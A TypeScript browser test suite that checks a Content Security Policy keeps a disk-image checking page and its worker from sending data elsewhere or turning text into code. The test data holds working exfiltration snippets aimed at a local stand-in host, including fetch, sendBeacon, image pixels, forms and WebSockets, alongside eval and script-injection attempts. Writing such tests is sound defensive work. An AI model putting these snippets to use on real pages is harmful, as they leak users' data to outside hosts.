// Nothing leaves the page: attacks from the page and from its worker, on a server that sends no security header.
// Every attack is one that works where the policy is absent; a control shows that for each.
import { readFileSync } from 'node:fs'
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { inProject } from '../../scripts/lib/project.mjs'
import { base } from '../images/builder.mjs'
import { openTab, pick, startBrowser, type Tab, verdictOf } from './support/browser.ts'
import { Images } from './support/images.ts'
import { type Elsewhere, listenElsewhere, type Site, serveSite } from './support/site.ts'

const policy =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src blob:; style-src 'self'; img-src 'self' data:; " +
  "connect-src 'none'; base-uri 'none'; form-action 'none'; require-trusted-types-for 'script'; trusted-types default"

let browser: Browser
let site: Site
let elsewhere: Elsewhere
const images = new Images()
let tab: Tab

beforeAll(async () => {
  ;[browser, site, elsewhere] = await Promise.all([startBrowser(), serveSite(), listenElsewhere()])
})

afterAll(async () => {
  images.remove()
  await Promise.all([browser?.close(), site?.close(), elsewhere?.close()])
})

afterEach(async () => {
  await tab?.close()
})

/** The page with an image open, hence with its worker alive. */
async function opened(): Promise<Page> {
  tab = await openTab(browser, site.url)
  await pick(tab.page, images.built('good.vhdx', base()))
  expect(await verdictOf(tab.page)).toBe('Sound')
  return tab.page
}

// Each runs in the page and in the worker, tries to reach `url`, and says how it went. They are sent as text.
const attacks: Record<string, (url: string) => Promise<string>> = {
  fetch: (url) =>
    fetch(`${url}/fetch`).then(
      () => 'sent',
      (error: Error) => error.name,
    ),
  'fetch without cors': (url) =>
    fetch(`${url}/opaque`, { mode: 'no-cors', method: 'POST', body: 'disk' }).then(
      () => 'sent',
      (error: Error) => error.name,
    ),
  XMLHttpRequest: (url) =>
    new Promise((done) => {
      const request = new XMLHttpRequest()
      request.onload = () => done('sent')
      request.onerror = () => done('error')
      request.open('GET', `${url}/xhr`)
      request.send()
    }),
  WebSocket: (url) =>
    new Promise((done) => {
      const socket = new WebSocket(url.replace('http', 'ws'))
      socket.onopen = () => done('sent')
      socket.onerror = () => done('error')
    }),
  EventSource: (url) =>
    new Promise((done) => {
      const events = new EventSource(`${url}/events`)
      events.onerror = () => {
        events.close()
        done('error')
      }
    }),
}

const pageOnly: Record<string, (url: string) => Promise<string>> = {
  sendBeacon: async (url) => (navigator.sendBeacon(`${url}/beacon`, 'disk') ? 'queued' : 'refused'),
  'an image': (url) =>
    new Promise((done) => {
      const image = new Image()
      image.onload = () => done('sent')
      image.onerror = () => done('error')
      image.src = `${url}/pixel.png`
    }),
  'a form': async (url) => {
    const form = document.createElement('form')
    form.action = `${url}/form`
    form.method = 'post'
    document.body.append(form)
    form.submit()
    return 'submitted'
  },
  'a style sheet': (url) =>
    new Promise((done) => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = `${url}/style.css`
      link.onload = () => done('sent')
      link.onerror = () => done('error')
      document.head.append(link)
    }),
  'a frame': async (url) => {
    const frame = document.createElement('iframe')
    frame.src = `${url}/frame`
    document.body.append(frame)
    return 'added'
  },
}

/** Nothing reached the other host: what was sent before this marker from outside would have been heard before it. */
async function heardNothing(): Promise<void> {
  await fetch(`${elsewhere.url}/marker`)
  expect(elsewhere.heard.splice(0)).toEqual(['GET /marker'])
}

describe('the page cannot send by', () => {
  it.each(Object.entries({ ...attacks, ...pageOnly }))('%s', async (_name, attack) => {
    const page = await opened()
    expect(await page.evaluate(attack, elsewhere.url)).not.toBe('sent')
    await heardNothing()
    await expect.poll(() => tab.complaints.join('\n')).toContain('Content Security Policy')
  })
})

describe('the worker cannot send by', () => {
  it.each(Object.entries(attacks))('%s', async (_name, attack) => {
    const page = await opened()
    const [worker] = page.workers()
    if (!worker) throw new Error('The page has no worker.')
    expect(worker.url()).toMatch(/^blob:/)
    expect(await worker.evaluate(attack, elsewhere.url)).not.toBe('sent')
    await heardNothing()
  })
})

describe('without the policy', () => {
  it.each(Object.entries({ ...attacks, ...pageOnly }))('%s does reach the other host', async (_name, attack) => {
    tab = await openTab(browser, `${site.url}favicon.svg`) // same host, no policy
    await tab.page.goto(`${elsewhere.url}/blank`)
    elsewhere.heard.length = 0
    const reached = expect.poll(() => elsewhere.heard.length, { timeout: 5000 }).toBeGreaterThan(0)
    await Promise.race([tab.page.evaluate(attack, elsewhere.url).catch(() => 'navigated away'), reached])
    await reached
    elsewhere.heard.length = 0
  })
})

// Each tries to turn text into code. In a task of the page's own: what runs inside the debugger's call may use eval.
const makings: Record<string, () => Promise<string>> = {
  eval: () =>
    new Promise((done) =>
      setTimeout(() => {
        try {
          // biome-ignore lint/security/noGlobalEval: the attack itself
          done(`made ${eval('1')}`)
        } catch (error) {
          done(error instanceof Error ? error.name : 'thrown')
        }
      }),
    ),
  'new Function': () =>
    new Promise((done) =>
      setTimeout(() => {
        try {
          done(`made ${new Function('return 1')()}`)
        } catch (error) {
          done(error instanceof Error ? error.name : 'thrown')
        }
      }),
    ),
}

const pageMakings: Record<string, () => string> = {
  'a worker from an address': () => String(new Worker('worker.js')),
  'a worker from a data: address': () => String(new Worker('data:text/javascript,1')),
  markup: () => {
    document.body.innerHTML = '<b>text</b>'
    return 'made'
  },
  'a script element': () => {
    document.head.append(Object.assign(document.createElement('script'), { text: 'window.made = true' }))
    return 'made'
  },
}

describe('text does not become code', () => {
  it.each(Object.entries(makings))('by %s, neither in the page nor in the worker', async (_name, making) => {
    const page = await opened()
    expect(await page.evaluate(making)).toBe('EvalError')
    expect(await page.workers()[0]?.evaluate(making)).toBe('EvalError')
  })

  it.each(Object.entries(pageMakings))('by %s', async (_name, making) => {
    const page = await opened()
    await expect(page.evaluate(making)).rejects.toThrow(/TrustedScriptURL|TrustedHTML|TrustedScript|blob: address/)
  })
})

describe('the built page', () => {
  const html = readFileSync(inProject('build/site/index.html'), 'utf8')

  it('has the policy, word for word, before anything that it could bind', () => {
    const [, head = ''] = html.match(/<head>([\s\S]*)<\/head>/) ?? []
    expect(head.trim()).toMatch(/^<meta charset="utf-8" ?\/?>\s*<meta http-equiv="Content-Security-Policy" content="/)
    expect(html.match(/http-equiv="Content-Security-Policy" content="([^"]*)"/)?.[1]).toBe(policy)
  })

  it('has no inline script and no inline style', () => {
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=/)
  })

  it('names only what lies beside it', () => {
    const addresses = [...html.matchAll(/(?:src|href)="([^"]*)"/g)].map(([, address]) => address)
    expect(addresses.length).toBeGreaterThan(2)
    for (const address of addresses) expect(address).toMatch(/^(\.\/|data:image\/svg\+xml,)/)
  })

  it('loads a page, a script and a style, and asks for nothing afterwards, not even an icon', async () => {
    const page = await opened()
    expect(tab.requests).toEqual([])
    const loaded = await page.evaluate(() =>
      performance.getEntriesByType('resource').map((entry) => new URL(entry.name).pathname.replace(/.*\./, '')),
    )
    expect(loaded.filter((kind) => !['js', 'css'].includes(kind)).length).toBeLessThanOrEqual(1) // the worker's blob:
    expect(tab.complaints).toEqual([])
  })
})
